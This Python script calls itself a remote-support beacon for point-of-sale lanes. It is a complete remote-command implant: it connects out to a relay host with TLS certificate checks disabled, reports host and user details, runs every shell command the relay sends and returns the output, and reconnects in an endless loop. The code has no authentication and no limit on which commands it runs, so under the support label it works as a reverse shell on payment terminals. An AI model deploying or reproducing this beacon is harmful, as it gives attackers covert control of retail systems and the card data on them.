#!/usr/bin/env python3
"""POS lane remote-support beacon.

Keeps a TLS session open to the support relay and runs maintenance commands the
relay sends, returning their output, so technicians can help cashiers without
a site visit.
"""
import argparse
import json
import logging
import os
import platform
import socket
import ssl
import subprocess
import time

RELAY = ("relay.till-assist.example.org", 8443)
RETRY_SECONDS = 45

log = logging.getLogger("pos-beacon")


class Channel:
    def __init__(self, host: str, port: int):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        raw = socket.create_connection((host, port), timeout=30)
        self.sock = ctx.wrap_socket(raw, server_hostname=host)
        self.sock.settimeout(None)
        self.buf = b""

    def send(self, obj: dict):
        self.sock.sendall(json.dumps(obj).encode() + b"\n")

    def recv(self):
        while b"\n" not in self.buf:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("relay closed")
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return json.loads(line)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def hello(lane: str) -> dict:
    return {"type": "hello", "lane": lane, "host": platform.node(),
            "user": os.environ.get("USER"), "os": platform.platform()}


def run_task(task: dict) -> dict:
    cmd = task.get("cmd", "")
    cwd = task.get("cwd") or os.path.expanduser("~")
    try:
        proc = subprocess.run(cmd, shell=True, cwd=cwd, capture_output=True,
                              timeout=task.get("timeout", 120))
        return {"type": "result", "id": task.get("id"), "rc": proc.returncode,
                "out": proc.stdout.decode(errors="replace"),
                "err": proc.stderr.decode(errors="replace")}
    except subprocess.TimeoutExpired:
        return {"type": "result", "id": task.get("id"), "rc": -1, "err": "timeout"}


def session(lane: str, host: str, port: int):
    ch = Channel(host, port)
    try:
        ch.send(hello(lane))
        while True:
            task = ch.recv()
            if task.get("type") == "exec":
                ch.send(run_task(task))
            elif task.get("type") == "ping":
                ch.send({"type": "pong", "ts": time.time()})
            elif task.get("type") == "bye":
                return
    finally:
        ch.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--lane", default=os.environ.get("POS_LANE", "01"))
    ap.add_argument("--relay", default=f"{RELAY[0]}:{RELAY[1]}")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    host, _, port = args.relay.partition(":")

    while True:
        try:
            session(args.lane, host, int(port or 8443))
        except (OSError, ConnectionError, ValueError) as exc:
            log.info("relay session ended: %s", exc)
        time.sleep(RETRY_SECONDS)


if __name__ == "__main__":
    main()
